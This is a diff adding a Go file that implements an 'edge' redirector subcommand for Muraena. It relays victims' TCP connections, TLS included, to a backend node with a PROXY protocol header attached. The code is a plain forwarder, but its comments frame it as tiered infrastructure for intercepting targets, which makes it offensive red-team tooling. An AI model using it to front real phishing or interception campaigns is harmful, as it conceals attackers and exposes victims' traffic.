@@ -0,0 +1,150 @@
+package proxy
+
+import (
+	"flag"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"os/signal"
+	"strings"
+	"sync"
+	"syscall"
+	"time"
+)
+
+// edgeForward is a listener of the edge forwarding its connections to the node
+type edgeForward struct {
+	listen, node string
+}
+
+// edgeForwards is the repeatable -forward flag, as listen=node
+type edgeForwards []edgeForward
+
+func (f *edgeForwards) String() string {
+	forwards := make([]string, len(*f))
+	for i, forward := range *f {
+		forwards[i] = forward.listen + "=" + forward.node
+	}
+	return strings.Join(forwards, ",")
+}
+
+func (f *edgeForwards) Set(value string) error {
+	parts := strings.SplitN(value, "=", 2)
+	if len(parts) != 2 || parts[0] == "" || parts[1] == "" {
+		return fmt.Errorf("invalid forward %s: it must be listen=node, i.e. :443=10.0.0.5:443", value)
+	}
+	*f = append(*f, edgeForward{listen: parts[0], node: parts[1]})
+	return nil
+}
+
+// edge forwards the TCP connections of the victims to the Muraena node, TLS included, without terminating them.
+// Each connection is prefixed with the PROXY protocol header, so that the node sees the victim address.
+type edge struct {
+	version int
+	tag     string
+	timeout time.Duration
+}
+
+// RunEdge runs the edge subcommand, returning the exit code: the instance acts as a redirector of a multi-tier
+// infrastructure, forwarding the connections to the node until interrupted.
+// The listeners of the node must enable the proxyProtocol.
+func RunEdge(args []string) int {
+	var forwards edgeForwards
+
+	flags := flag.NewFlagSet("edge", flag.ExitOnError)
+	flags.Var(&forwards, "forward", "Listener and node address, as listen=node. Repeatable.")
+	version := flags.Int("proxy-protocol", 2, "Version of the PROXY protocol header, 1 or 2.")
+	tag := flags.String("tag", "", "Tag of the edge, sent in the PROXY protocol v2 header.")
+	timeout := flags.Int("timeout", 10, "Timeout of the connections to the node, in seconds.")
+	flags.Usage = func() {
+		fmt.Fprintf(flags.Output(), "Usage: muraena edge -forward <listen>=<node> [-forward ...] [-tag <tag>]\n")
+		flags.PrintDefaults()
+	}
+	_ = flags.Parse(args)
+
+	if len(forwards) == 0 || flags.NArg() != 0 || (*version != 1 && *version != 2) {
+		flags.Usage()
+		return 2
+	}
+
+	e := &edge{version: *version, tag: *tag, timeout: time.Duration(*timeout) * time.Second}
+
+	var listeners []net.Listener
+	for _, forward := range forwards {
+		ln, err := net.Listen("tcp", forward.listen)
+		if err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			return 1
+		}
+		listeners = append(listeners, ln)
+
+		fmt.Fprintf(os.Stderr, "Forwarding %s to %s\n", ln.Addr(), forward.node)
+		go e.serve(ln, forward.node)
+	}
+
+	signals := make(chan os.Signal, 1)
+	signal.Notify(signals, os.Interrupt, syscall.SIGTERM)
+	<-signals
+
+	for _, ln := range listeners {
+		ln.Close()
+	}
+	return 0
+}
+
+// serve accepts the connections of the listener, until it is closed
+func (e *edge) serve(ln net.Listener, node string) {
+	for {
+		conn, err := ln.Accept()
+		if err != nil {
+			// Transient errors, such as running out of file descriptors, do not stop the listener
+			if t, ok := err.(interface{ Temporary() bool }); ok && t.Temporary() {
+				time.Sleep(100 * time.Millisecond)
+				continue
+			}
+			return
+		}
+
+		go e.forward(conn, node)
+	}
+}
+
+// forward relays the connection to the node, after the PROXY protocol header
+func (e *edge) forward(conn net.Conn, node string) {
+	defer conn.Close()
+
+	upstream, err := net.DialTimeout("tcp", node, e.timeout)
+	if err != nil {
+		fmt.Fprintf(os.Stderr, "Error forwarding %s to %s: %s\n", conn.RemoteAddr(), node, err)
+		return
+	}
+	defer upstream.Close()
+
+	src, _ := conn.RemoteAddr().(*net.TCPAddr)
+	dst, _ := conn.LocalAddr().(*net.TCPAddr)
+	if src == nil || dst == nil {
+		return
+	}
+	if _, err := upstream.Write(proxyProtocolHeader(e.version, src, dst, e.tag)); err != nil {
+		return
+	}
+
+	var wg sync.WaitGroup
+	wg.Add(2)
+	go relayHalf(&wg, upstream, conn)
+	go relayHalf(&wg, conn, upstream)
+	wg.Wait()
+}
+
+// relayHalf copies src to dst, then closes the write side of dst so that the peer sees the end of the stream
+func relayHalf(wg *sync.WaitGroup, dst, src net.Conn) {
+	defer wg.Done()
+
+	_, _ = io.Copy(dst, src)
+	if tcp, ok := dst.(*net.TCPConn); ok {
+		_ = tcp.CloseWrite()
+		return
+	}
+	dst.Close()
+}